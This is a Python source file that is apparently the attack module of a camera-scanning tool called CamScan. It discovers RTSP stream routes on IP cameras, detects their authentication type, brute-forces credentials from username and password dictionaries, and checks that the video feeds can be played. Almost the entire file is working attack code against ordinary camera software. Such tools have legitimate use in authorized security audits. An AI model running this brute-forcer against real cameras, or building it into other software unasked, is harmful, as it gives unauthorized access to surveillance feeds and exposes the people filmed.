# =============================================================================
# Author      : awiones
# Created     : 2025-02-18
# License     : GNU General Public License v3.0
# Description : Attack pipeline for CamScan. Discovers stream routes, detects
#               authentication, brute-forces credentials and validates access
#               to the RTSP streams found by the network scanner.
# =============================================================================


import dataclasses
import logging
import time
import concurrent.futures
from typing import Callable, List, Optional, Sequence, Tuple

from colorama import Fore, Style, init
from tqdm import tqdm

from camscan.auth import AuthMethod, parse_auth_header
from camscan.config import ScanConfig
from camscan.dictionaries import Credentials
from camscan.rtsp_client import RTSPClient, RTSPError
from camscan.sdp import VIDEO_FORMATS, SessionDescription
from camscan.stream import Stream, build_url, known_credentials, replace_stream
from camscan.summary import format_streams

# Initialize colorama
init(autoreset=True)

# Route that should never exist on a camera
DUMMY_ROUTE = "/0x8b6c42"


class NoStreamsError(ValueError):
    """Raised when the attack is started without any stream"""


class Attacker:
    def __init__(self, config: ScanConfig, credentials: Credentials, routes: Sequence[str],
                 client_factory: Callable[..., RTSPClient] = RTSPClient,
                 show_progress: bool = False):
        self.config = config
        self.credentials = credentials
        self.routes = tuple(routes)
        self.client_factory = client_factory
        self.show_progress = show_progress

    def _new_client(self) -> RTSPClient:
        return self.client_factory(timeout=self.config.timeout)

    def _pause(self):
        if self.config.attack_interval > 0:
            time.sleep(self.config.attack_interval)

    def _announce(self, message: str):
        logging.info(message)
        if self.config.verbose or self.show_progress:
            print(f"{Fore.BLUE}[*] {message}{Style.RESET_ALL}")

    def attack(self, targets: List[Stream]) -> List[Stream]:
        """Attack the given streams and return them with whatever could be resolved"""
        if not targets:
            raise NoStreamsError("no stream found")

        # Most cameras will be accessed successfully with these attacks.
        self._announce(f"Attacking routes of {len(targets)} streams")
        streams = self.attack_route(list(targets))

        self._announce(f"Attempting to detect authentication methods of {len(streams)} streams")
        streams = self.detect_auth_methods(streams)

        self._announce(f"Attacking credentials of {len(streams)} streams")
        streams = self.attack_credentials(streams)

        self._announce("Validating that streams are accessible")
        streams = self.validate_streams(streams)

        if self.config.verbose:
            print(f"\n{Fore.CYAN}[*] Streams after first round of attack{Style.RESET_ALL}")
            print(format_streams(streams))

        # Some servers (GStreamer RTSP server for instance) answer 401 before
        # 404, so routes are only distinguishable once credentials are known.
        if any(not s.route_found or not s.credentials_found or not s.available for s in streams):
            self._announce("Second round of attacks")
            streams = self.attack_route(streams)

            self._announce("Validating that streams are accessible")
            streams = self.validate_streams(streams)

        return streams

    def _fan_out(self, streams: List[Stream], task: Callable[[Stream], Stream],
                 accept: Callable[[Stream], bool], desc: str) -> List[Stream]:
        """Run task once per stream concurrently; apply accepted results by address:port"""
        workers = min(self.config.max_workers, len(streams))
        with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as executor:
            future_to_stream = {executor.submit(task, stream): stream for stream in streams}
            with tqdm(total=len(streams), desc=desc, unit="stream",
                      disable=not self.show_progress) as pbar:
                for future in concurrent.futures.as_completed(future_to_stream):
                    stream = future_to_stream[future]
                    try:
                        result = future.result()
                    except Exception as e:
                        logging.error(f"{desc} failed for {stream.address}:{stream.port}: {e}")
                        result = None
                    if result is not None and accept(result):
                        streams = replace_stream(streams, result)
                    pbar.update(1)
        return streams

    def attack_route(self, targets: List[Stream]) -> List[Stream]:
        """Guess the streaming route of each target using the route dictionary"""
        if not targets:
            return targets
        return self._fan_out(targets, self.attack_camera_route,
                             lambda s: s.route_found, "Route attack")

    def attack_credentials(self, targets: List[Stream]) -> List[Stream]:
        """Guess the credentials of each target using the credential dictionary"""
        if not targets:
            return targets
        return self._fan_out(targets, self.attack_camera_credentials,
                             lambda s: s.credentials_found, "Credential attack")

    def detect_auth_methods(self, targets: List[Stream]) -> List[Stream]:
        """Detect whether each target uses digest, basic or no authentication"""
        for stream in targets:
            stream.authentication_type = self.detect_auth_method(stream)
            self._pause()

            if stream.authentication_type is AuthMethod.UNKNOWN:
                logging.warning(f"Could not detect authentication method of {build_url(stream)}")
            else:
                logging.info(f"Stream {build_url(stream)} uses "
                             f"{stream.authentication_type.label} authentication method")
        return targets

    def validate_streams(self, targets: List[Stream]) -> List[Stream]:
        """Try to set up and play each target, one at a time"""
        for stream in targets:
            stream.available = self.validate_stream(stream)
            self._pause()
        return targets

    def attack_camera_route(self, target: Stream) -> Stream:
        result = dataclasses.replace(target, routes=[], route_found=False)
        with self._new_client() as client:
            # A positive answer to a route that cannot exist means the camera
            # does not require (or does not check) a route.
            if self.route_attack(client, result, DUMMY_ROUTE):
                result.route_found = True
                result.routes.append("/")
                logging.debug(f"Positive to dummy route: {result.address}:{result.port}")
                return result

            logging.debug(f"Negative to dummy route: {result.address}:{result.port}")
            for route in self.routes:
                if self.route_attack(client, result, route):
                    result.route_found = True
                    result.routes.append(route)
                self._pause()
        return result

    def attack_camera_credentials(self, target: Stream) -> Stream:
        result = dataclasses.replace(target)
        with self._new_client() as client:
            for username in self.credentials.usernames:
                for password in self.credentials.passwords:
                    ok, media = self.credentials_attack(client, result, username, password)
                    if ok:
                        result.credentials_found = True
                        result.username = username
                        result.password = password
                        result.media = media
                        return result
                    self._pause()

        result.credentials_found = False
        result.username = ""
        result.password = ""
        return result

    def route_attack(self, client: RTSPClient, stream: Stream, route: str) -> bool:
        url = build_url(stream, route, credentials=known_credentials(stream))
        try:
            _, response = client.describe(url)
        except RTSPError as e:
            logging.debug(f"Route attack failed for {url}: {e}")
            return False

        if response.status_code in self.config.route_ok_codes:
            logging.debug(f"Successful DESCRIBE {url}: {response.status_code} {response.reason}")
            return True
        return False

    def credentials_attack(self, client: RTSPClient, stream: Stream, username: str,
                           password: str) -> Tuple[bool, Optional[SessionDescription]]:
        url = build_url(stream, credentials=(username, password))
        try:
            media, response = client.describe(url)
        except RTSPError as e:
            logging.debug(f"Credential attack failed for {stream.address}:{stream.port}: {e}")
            return False, None

        # 200: the stream is accessed. 404: the route is wrong but the
        # credentials were checked first and accepted.
        if response.status_code in self.config.credential_ok_codes:
            return True, media
        return False, None

    def detect_auth_method(self, stream: Stream) -> AuthMethod:
        url = build_url(stream)
        with self._new_client() as client:
            try:
                _, response = client.describe(url)
            except RTSPError as e:
                logging.debug(f"Authentication detection failed for {url}: {e}")
                return AuthMethod.UNKNOWN

        methods = [parse_auth_header(h).method for h in response.get_all("WWW-Authenticate")]
        if AuthMethod.DIGEST in methods:
            return AuthMethod.DIGEST
        if AuthMethod.BASIC in methods:
            return AuthMethod.BASIC
        return AuthMethod.NONE

    def validate_stream(self, stream: Stream) -> bool:
        url = build_url(stream, credentials=known_credentials(stream))
        with self._new_client() as client:
            try:
                description, response = client.describe(url)
                if description is None:
                    logging.debug(f"DESCRIBE {url} answered {response.status_code}")
                    return False

                for track in description.describe_tracks():
                    logging.debug(f"{stream.address}:{stream.port} {track}")

                found = description.find_format(*VIDEO_FORMATS)
                if found is None:
                    logging.debug(f"No video media found on {url}")
                    return False
                media, _ = found

                try:
                    client.setup(media.url(description.base_url))
                    client.play(description.base_url)
                finally:
                    client.teardown(description.base_url)
            except RTSPError as e:
                logging.debug(f"Validation failed for {stream.address}:{stream.port}: {e}")
                return False
        return True
